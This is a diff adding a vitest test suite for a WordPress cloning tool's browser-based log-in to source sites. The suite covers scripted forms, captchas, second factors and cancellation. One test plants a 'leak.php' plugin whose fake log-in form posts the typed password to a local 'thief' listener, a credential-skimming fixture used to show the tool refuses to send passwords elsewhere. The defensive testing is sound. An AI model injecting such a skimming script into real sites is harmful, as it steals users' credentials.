@@ -1,0 +1,135 @@
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterEach, expect, test } from 'vitest';
+import { toWpcloneError } from '../../src/shared/errors.ts';
+import { connectSource, disconnectSource } from '../../src/site/connect/index.ts';
+import { asAdmin, connectDeps, listen, traces } from '../support/connecting.ts';
+import { type Source, type SourceOptions, startSource } from '../support/source/index.ts';
+import { failureOf } from '../support/work.ts';
+
+let source: Source | undefined;
+const start = async (options: SourceOptions): Promise<Source> => (source = await startSource(options));
+afterEach(async () => {
+  await source?.stop();
+  source = undefined;
+});
+
+/** Browsers among the children of this process. */
+const browsers = (): string[] =>
+  execFileSync('ps', ['-o', 'comm=', '--ppid', String(process.pid)])
+    .toString()
+    .split('\n')
+    .filter((name) => /chrom/i.test(name));
+
+test.each([
+  ['is made by a script, with fields of its own', { scriptedLogin: 'built' }],
+  ['carries something that only a script can put in', { scriptedLogin: 'token' }],
+  ['has moved and needs a script', { movedLogin: 'linked', scriptedLogin: 'token' }],
+  ['needs a script, behind a certificate that nobody vouches for', { scriptedLogin: 'token', https: true }],
+] satisfies [string, SourceOptions][])(
+  'a source whose log-in form %s is connected with a browser',
+  async (_, options) => {
+    const site = await start(options);
+    const request = asAdmin(site, { insecureTls: 'https' in options });
+    const connection = await connectSource(request, connectDeps());
+    expect(connection).toMatchObject({ way: 'browser', installedNow: true, access: { url: site.url } });
+    expect(connection.info.home).toBe(site.url);
+    expect(browsers()).toEqual([]);
+
+    expect(await disconnectSource({ ...request, known: connection.access }, connectDeps())).toBe(true);
+    expect(await traces(site)).toEqual([]);
+  },
+);
+
+test('a hidden log-in page that needs a script is found with --login-url', async () => {
+  const site = await start({ movedLogin: 'unlinked', scriptedLogin: 'token' });
+  const connection = await connectSource(asAdmin(site, { loginUrl: site.loginUrl }), connectDeps());
+  expect(connection.way).toBe('browser');
+});
+
+test('a log-in page that is nowhere to be found is asked for', async () => {
+  const site = await start({ movedLogin: 'unlinked' });
+  const error = await failureOf(connectSource(asAdmin(site), connectDeps()));
+  expect(error.code).toBe('LOGIN_PAGE_NOT_FOUND');
+  expect(error.nextSteps.join()).toContain('--login-url');
+});
+
+test('a page that takes the focus away while its fields are filled is filled again', async () => {
+  const restless = `<?php add_action( 'login_footer', function () { ?><script>
+    var user = document.getElementById( 'user_login' ), word = document.getElementById( 'user_pass' );
+    word.addEventListener( 'focus', function () { user.focus(); user.select(); }, { once: true } );
+    word.addEventListener( 'input', function () { word.value = ''; }, { once: true } );
+    </script><?php }, 99 );`;
+  const site = await start({ scriptedLogin: 'token', muPlugins: { 'restless.php': restless } });
+  expect(await connectSource(asAdmin(site), connectDeps())).toMatchObject({ way: 'browser' });
+});
+
+test('a wrong password in a scripted form says what the site says', async () => {
+  const site = await start({ scriptedLogin: 'built' });
+  const request = { ...asAdmin(site), password: () => Promise.resolve('Not-the-password-1') };
+  const error = await failureOf(connectSource(request, connectDeps()));
+  expect(error.code).toBe('LOGIN_FAILED');
+  expect(error.message).toContain('is incorrect');
+  expect(error.message).not.toContain('Not-the-password');
+  expect(browsers()).toEqual([]);
+});
+
+test('a second factor behind a scripted form is recognised', async () => {
+  const site = await start({ scriptedLogin: 'token', secondFactor: 'page' });
+  expect((await failureOf(connectSource(asAdmin(site), connectDeps()))).code).toBe('SECOND_FACTOR');
+});
+
+test('a captcha is named', async () => {
+  const captcha = `<?php
+    add_action( 'login_form', function () { echo '<div class="g-recaptcha"></div>'; } );
+    add_filter( 'authenticate', function ( $user ) { return isset( $_POST['log'] ) ? new WP_Error( 'captcha', 'Are you a robot?' ) : $user; }, 99 );`;
+  const site = await start({ muPlugins: { 'captcha.php': captcha } });
+  const error = await failureOf(connectSource(asAdmin(site), connectDeps()));
+  expect(error.code).toBe('CAPTCHA');
+  expect(error.message).toContain('Are you a robot?');
+});
+
+test('the password goes to no other host from a scripted form either', async () => {
+  const thief = await listen((_, response) => response.writeHead(200, { 'access-control-allow-origin': '*' }).end());
+  const leak = `<?php add_action( 'login_init', function () { ?>
+    <!doctype html><form id="f"><input type="text" name="user"><input type="password" name="word"><button>Go</button></form>
+    <script>f.onsubmit = function (e) { e.preventDefault(); fetch("${thief.url('localhost')}/", { method: "POST", body: f.word.value }); };</script>
+    <?php exit; } );`;
+  try {
+    const site = await start({ muPlugins: { 'leak.php': leak } });
+    const error = await failureOf(connectSource(asAdmin(site), connectDeps()));
+    expect(error.code).toBe('LOGIN_FAILED');
+    expect(error.message).toContain('another host');
+    expect(thief.received).toEqual([]);
+  } finally {
+    await thief.close();
+  }
+});
+
+test('a machine without Chromium says so', async () => {
+  const site = await start({ scriptedLogin: 'built' });
+  const empty = mkdtempSync(join(tmpdir(), 'no-browser-'));
+  try {
+    const error = await failureOf(connectSource(asAdmin(site), connectDeps({ environment: { PATH: empty } })));
+    expect(error.code).toBe('BROWSER_MISSING');
+  } finally {
+    rmSync(empty, { recursive: true });
+  }
+});
+
+test('a cancelled run closes the browser at once', async () => {
+  const site = await start({ scriptedLogin: 'built' });
+  const stop = new AbortController();
+  const deps = connectDeps({ signal: stop.signal });
+  const ended = connectSource(asAdmin(site), deps).then(
+    () => undefined,
+    (error: unknown) => toWpcloneError(error).code,
+  );
+  await expect.poll(browsers, { timeout: 20_000 }).not.toEqual([]);
+  stop.abort();
+  expect(await ended).toBe('CANCELLED');
+  await expect.poll(browsers).toEqual([]);
+  expect(await traces(site)).toEqual([]);
+});
